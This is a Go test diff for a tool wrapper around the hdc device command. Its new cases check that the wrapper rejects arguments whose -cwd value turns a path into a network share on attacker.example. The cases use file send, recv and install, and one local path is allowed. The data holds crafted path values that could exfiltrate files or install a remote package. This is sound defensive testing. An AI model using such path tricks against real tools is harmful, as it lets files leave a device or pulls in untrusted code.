@@ -29,6 +29,13 @@ func TestRunNetworkPathsAsHdcSplits(t *testing.T) {
 		{"-t", "K1", "file", "recv", "/data/local/tmp/x", `"//attacker.example/share/x"`},
 		{"-t", "K1", "install", `"\\?\UNC\attacker.example\share\x.hap"`},
 		{"-t", "K1", "file send", "x\t\\\\.\\pipe\\x", "/data/local/tmp/x"},
+		// hdc.exe joins a path it deems relative (neither "X:\" nor a
+		// leading "\\") to the -cwd value as text: "\" or "/" and
+		// "\host\share\x" make "\\host\share\x".
+		{"-t", "K1", "file", "send", "-cwd", `\`, `\attacker.example\share\x`, "/data/local/tmp/x"},
+		{"-t", "K1", "file", "recv", "/data/local/tmp/x", "-cwd", "/", "/attacker.example/share/x"},
+		{"-t", "K1", "install", "-cwd", "/", "/attacker.example/share/x.hap"},
+		{"-t", "K1", "install", "-cwd", `\`, `\?\UNC\attacker.example\share\x.hap`},
 	} {
 		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args, "confirm": true})
 		if err != nil || !res.IsError || !strings.Contains(res.TextOf(), "network share") && !strings.Contains(res.TextOf(), "device path") {
@@ -42,6 +49,7 @@ func TestRunNetworkPathsAsHdcSplits(t *testing.T) {
 	for _, args := range [][]string{
 		{"-t", "K1", "file", "send", `"C:\my files\x"`, "/data/local/tmp/x"},
 		{"-t", "K1", "file", "send", `\\wsl.localhost\Ubuntu\home\u\x`, "/data/local/tmp/x"},
+		{"-t", "K1", "file", "send", "-cwd", `C:\dir\`, `\x`, "/data/local/tmp/x"},
 	} {
 		res, err := c.CallTool(ctx, hdc.ToolRun, map[string]any{"args": args})
 		if err != nil || res.IsError {
